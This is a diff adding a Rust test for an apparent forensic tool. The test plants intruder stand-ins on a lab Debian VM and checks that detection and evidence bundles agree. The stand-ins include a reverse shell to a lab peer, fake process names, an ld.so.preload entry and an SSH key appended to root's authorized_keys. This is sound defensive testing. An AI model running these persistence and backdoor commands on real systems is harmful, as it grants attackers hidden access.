@@ -1,0 +1,113 @@
+//! Evidence of a real Debian with real daemons and stand-ins: taken, sealed, and opened again.
+#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
+
+use std::collections::BTreeSet;
+
+use serde_json::Value;
+use stanch_range::{Victim, debian, possible};
+
+/// Returns sign and entity of each finding at some levels.
+fn findings(document: &Value, levels: &[&str]) -> BTreeSet<String> {
+    let findings = document["findings"].as_array().unwrap().iter();
+    findings
+        .filter(|finding| levels.contains(&finding["level"].as_str().unwrap()))
+        .map(|finding| format!("{} {}", finding["sign"].as_str().unwrap(), finding["entity"]))
+        .collect()
+}
+
+/// What an intruder leaves, by name: how it is made ready, and how it starts.
+const STAND_INS: &[(&str, &str, &str)] = &[
+    ("reverse-shell", "", "/run/range/stand-in socket-shell 10.77.0.1:4444"),
+    ("pipe-relay", "", "/run/range/stand-in pipe-relay 10.77.0.1:4444"),
+    ("deleted", "cp /run/range/stand-in /usr/sbin/agentd", "/usr/sbin/agentd sleep"),
+    ("memfd", "", "/run/range/stand-in memfd"),
+    (
+        "fake-kernel-thread",
+        "cp /run/range/stand-in /usr/local/bin/upd",
+        "/usr/local/bin/upd named [kworker/0:3]",
+    ),
+    (
+        "false-name",
+        "cp /run/range/stand-in /usr/local/bin/upd2",
+        "/usr/local/bin/upd2 named /usr/sbin/cron",
+    ),
+    ("packet-socket", "cp /run/range/stand-in /usr/local/sbin/pktd", "/usr/local/sbin/pktd packet"),
+    ("listener", "cp /run/range/stand-in /usr/sbin/netd", "/usr/sbin/netd listen 31337"),
+    ("ebpf", "cp /run/range/stand-in /usr/local/sbin/probed", "/usr/local/sbin/probed bpf"),
+];
+
+#[test]
+fn a_bundle_holds_and_shows_what_the_running_machine_showed() {
+    if !possible() {
+        return;
+    }
+    let root = debian().unwrap();
+    let victim = Victim::boot(&root).unwrap();
+    let mut sink = victim.spawn_on_peer(&["sink", "4444"]).unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    for (name, prepare, start) in STAND_INS {
+        if !prepare.is_empty() {
+            victim.shell(prepare).unwrap();
+        }
+        victim.start(name, start).unwrap();
+    }
+    victim
+        .shell(
+            "rm /usr/sbin/agentd; echo /usr/lib/libhelper.so > /etc/ld.so.preload; \
+             mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE eve' >> \
+             /root/.ssh/authorized_keys; mkfifo /tmp/pipe; truncate -s 1T /tmp/sparse; \
+             printf 'x' > \"$(printf '/tmp/a\\nb')\"",
+        )
+        .unwrap();
+    let times = "stat -c '%n %X' /etc/passwd /etc/shadow /root/.ssh/authorized_keys /etc /tmp \
+                 /usr/bin /etc/ssh/sshd_config";
+    // Old enough that the kernel's relatime would set them anew.
+    victim.shell("touch -a -d 2020-01-01 /etc/passwd /etc/shadow /etc/ssh/sshd_config").unwrap();
+    let before = victim.shell(times).unwrap();
+
+    let (live, code) = victim.stanch(&["detect"]).unwrap();
+    assert_eq!(code, 1);
+    let (made, code) = victim.stanch(&["preserve", "-o", "/run/case.tar.gz"]).unwrap();
+    assert!(matches!(code, 0 | 3), "{made:#}");
+    assert_eq!(victim.shell(times).unwrap(), before, "a time of reading changed");
+    let (seal, code) = victim.stanch(&["seal", "verify", "/run/case.tar.gz"]).unwrap();
+    assert_eq!((code, &seal["holds"]), (0, &Value::Bool(true)), "{seal:#}");
+    assert_eq!(seal["merkle_root"], made["merkle_root"]);
+
+    let (again, code) = victim.stanch(&["--bundle", "/run/case.tar.gz", "detect"]).unwrap();
+    assert_eq!(code, 1);
+    let grave = ["high", "critical"];
+    let (seen, kept) = (findings(&live, &grave), findings(&again, &grave));
+    println!(
+        "live: {seen:#?}\nnot in the bundle: {:#?}",
+        seen.difference(&kept).collect::<Vec<_>>()
+    );
+    println!("only in the bundle: {:#?}", kept.difference(&seen).collect::<Vec<_>>());
+    assert!(seen.len() >= STAND_INS.len(), "{seen:#?}");
+    let lost: Vec<_> = seen.difference(&kept).collect();
+    assert!(lost.is_empty(), "{lost:#?}");
+    let more: Vec<_> = kept.difference(&seen).collect();
+    assert!(more.is_empty(), "{more:#?}");
+    assert_eq!(again["verdict"], live["verdict"]);
+
+    what_is_in_it(&victim);
+    sink.kill().unwrap();
+    sink.wait().unwrap();
+}
+
+/// Looks at the items that an intruder's tricks concern.
+fn what_is_in_it(victim: &Victim) {
+    // The programs themselves are there, by the digest of the stand-in.
+    let digest = victim.shell("sha256sum /run/range/stand-in").unwrap();
+    let digest = digest.split_whitespace().next().unwrap().to_owned();
+    let manifest = victim.shell("cd /run && tar xzOf case.tar.gz meta/manifest.jsonl").unwrap();
+    let items: Vec<Value> =
+        manifest.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let programs = items.iter().filter(|item| item["artifact"] == "programs");
+    let programs: Vec<&Value> = programs.filter(|item| item["sha256"] == digest.as_str()).collect();
+    assert!(programs.len() >= 2, "the deleted program and the one in memory");
+    let of = |name: &str| items.iter().find(|item| item["name"] == name).unwrap();
+    assert_eq!(of("[root]/tmp/pipe")["status"], "described");
+    assert_eq!(of("[root]/tmp/sparse")["status"], "left-out");
+    assert_eq!(of("[root]/tmp/a\nb")["status"], "whole");
+}
